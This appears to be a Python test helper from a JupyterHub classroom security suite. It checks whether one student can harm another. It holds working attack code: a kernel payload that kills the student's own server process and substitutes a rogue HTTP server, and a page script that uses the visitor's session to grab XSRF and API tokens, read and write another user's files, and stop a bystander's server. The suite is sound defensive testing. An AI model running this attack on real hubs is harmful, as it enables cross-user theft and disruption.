"""A student's server that serves a page of the student's own, and those who open it."""

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

from playwright.sync_api import Browser

from tests.classroom.hub import Notebook, Student
from tests.support.waiting import wait_for

SECRET = "what nobody else may read"

# Runs in the attacker's kernel: from here on, another program has the place of the server. It needs
# no extension, so no setting of the server's can keep it away.
_REPLACE = """
import os, signal, subprocess, sys, urllib.parse
port = urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
with open("replacement.py", "w") as file:
    file.write({code!r})
subprocess.Popen([sys.executable, "-P", "replacement.py", str(port)], start_new_session=True)
print("ready")
"""
_SERVER = '''
import http.server, os, signal, subprocess, sys, time
time.sleep(1)
for process in os.listdir("/proc"):
    if process.isdecimal():
        try:
            if "jupyterhub.singleuser" in open(f"/proc/{process}/cmdline").read():
                os.kill(int(process), signal.SIGKILL)
        except OSError:
            pass
PAGE = """%s"""
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode())
while True:
    try:
        http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
    except OSError:
        time.sleep(0.1)
'''
# One click opens a window, with which a page of the same origin may do what it likes.
_PAGE = """<!doctype html><button>The solutions</button><script>
const asked = JSON.parse(decodeURIComponent(location.search.slice(1)))
const {hub, theirs, other, name, bystander} = asked
const results = {}
async function attempt(what, act) {
  try { results[what] = await act() } catch (error) { results[what] = error.name }
}
document.querySelector("button").onclick = async () => {
  const opened = window.open("about:blank")
  async function load(url) {
    const before = opened.document
    opened.location = url
    // Both raise where the origin is another one.
    while (opened.document === before || opened.document.readyState !== "complete")
      await new Promise((done) => setTimeout(done, 100))
    return opened.document
  }
  async function ask(url, xsrf, method) {
    const options = {method, credentials: "include", headers: {"X-XSRFToken": xsrf}}
    const answer = await fetch(url, options)
    return [answer.status, (await answer.text()).slice(0, 300)]
  }
  let xsrf = ""
  await attempt("hub", async () => {
    await load(hub + "/hub/home")
    xsrf = opened.jhdata.xsrf_token
    return opened.jhdata.user
  })
  await attempt("token", () => ask(hub + "/hub/api/users/" + name + "/tokens", xsrf, "POST"))
  await attempt("users", () => ask(hub + "/hub/api/users", xsrf, "GET"))
  await attempt("enter", () => ask(other + "/api/contents/secret.txt", xsrf, "GET"))
  await attempt("read", async () => {
    const page = await load(theirs + "/api/contents/secret.txt")
    return page.body.innerText
  })
  await attempt("write", async () => {
    const page = await load(theirs + "/lab")
    const xsrf = (page.cookie.match(/_xsrf=([^;]+)/) || [])[1]
    const options = {method: "PUT", headers: {"X-XSRFToken": xsrf},
                     body: JSON.stringify({type: "file", format: "text", content: "taken"})}
    return (await opened.fetch(theirs + "/api/contents/taken.txt", options)).status
  })
  await attempt("stop", () => ask(hub + "/hub/api/users/" + bystander + "/server", xsrf, "DELETE"))
  opened.close()
  document.title = "done"
}
</script>"""


@dataclass
class Attack:
    """A page of the attacker's, where the attacker's own server was.

    Args:
        attacker: whose server it is.
        bystander: whose server the page tries to enter and to stop, in the visitor's name.
    """

    attacker: Student
    bystander: Student

    def prepare(self) -> None:
        """Puts a program of the attacker's where the attacker's server is."""
        kernel = self.attacker.ask("kernels", "POST", {"name": "python3-plain"})["id"]
        notebook = Notebook(self.attacker, "", {}, kernel)
        with notebook.connected():
            (output,) = notebook.execute(_REPLACE.format(code=_SERVER % _PAGE))
        assert output.get("text") == "ready\n", output

    def visit(self, browser: Browser, visitor: Student) -> dict[str, Any]:
        """Logs in, visits one's own server, and clicks on the page; what the page has reached."""
        secret = Path("/home", visitor.name, "secret.txt")
        secret.write_text(SECRET)
        secret.chmod(0o644)
        hub = self.attacker.hub.url
        about = {
            "hub": hub,
            "theirs": visitor.server,
            "other": self.bystander.server,
            "name": visitor.name,
            "bystander": self.bystander.name,
        }
        with browser.new_context() as context:
            # JupyterLab's page will do; its program takes seconds to start.
            context.route("**/static/lab/**", lambda route: route.abort())
            tab = context.new_page()
            tab.goto(f"{hub}/hub/login")
            tab.fill("#username_input", visitor.name)
            tab.fill("#password_input", visitor.password)
            tab.click("#login_submit")
            tab.goto(f"{visitor.server}/lab")
            assert visitor.session.get(f"{visitor.server}/api/contents/secret.txt").ok

            def replaced() -> bool:
                tab.goto(f"{self.attacker.server}/solutions?{quote(json.dumps(about))}")
                return tab.locator("button", has_text="The solutions").count() == 1

            wait_for(replaced, "the attacker's page is there")
            tab.click("button")
            tab.wait_for_function("document.title == 'done'")
            return dict(tab.evaluate("results"))
